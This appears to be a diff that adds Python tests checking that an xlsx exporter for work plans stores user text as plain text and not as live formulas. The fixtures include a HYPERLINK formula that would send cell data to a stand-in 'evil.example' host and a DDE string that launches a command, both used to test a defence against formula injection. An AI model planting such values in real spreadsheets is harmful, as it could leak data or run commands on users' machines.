@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import io
+import zipfile
 from dataclasses import replace
 from datetime import date, datetime
 
@@ -241,3 +242,25 @@ def test_empty_xlsx_has_only_the_header():
     sheet = open_sheet(make_plan(groups=[]))
     assert [c.value for c in sheet[HEADER_ROW]] == COLUMNS + ["Trạng thái"]
     assert sheet.max_row == HEADER_ROW
+
+
+def test_xlsx_keeps_formula_text_as_text_not_a_live_formula():
+    """A task titled =HYPERLINK(…) must be shown as typed, never evaluated (formula injection)."""
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
+    plan = make_plan()
+    row = replace(plan.groups[0].rows[0], task=evil, product="+cmd|' /C calc'!A0", lead="@SUM(1+1)")
+    plan = replace(plan, groups=[replace(plan.groups[0], rows=[row])])
+    path = io.BytesIO(plan_xlsx(plan))
+    for sheet in (openpyxl.load_workbook(path)["Kế hoạch"], ):
+        cells = {c.value: c for r in sheet.iter_rows() for c in r if c.value}
+        for text in (evil, "+cmd|' /C calc'!A0", "@SUM(1+1)"):
+            assert cells[text].data_type == "s", text
+    with zipfile.ZipFile(path) as archive:  # no <f> element: Excel would compute one
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+
+
+def test_import_templates_write_text_cells():
+    from tracker.exporters.import_templates import ranking_template, results_template
+    for data in (results_template(), ranking_template()):
+        with zipfile.ZipFile(io.BytesIO(data)) as archive:
+            assert all(b"<f>" not in archive.read(name) for name in archive.namelist() if name.endswith(".xml"))
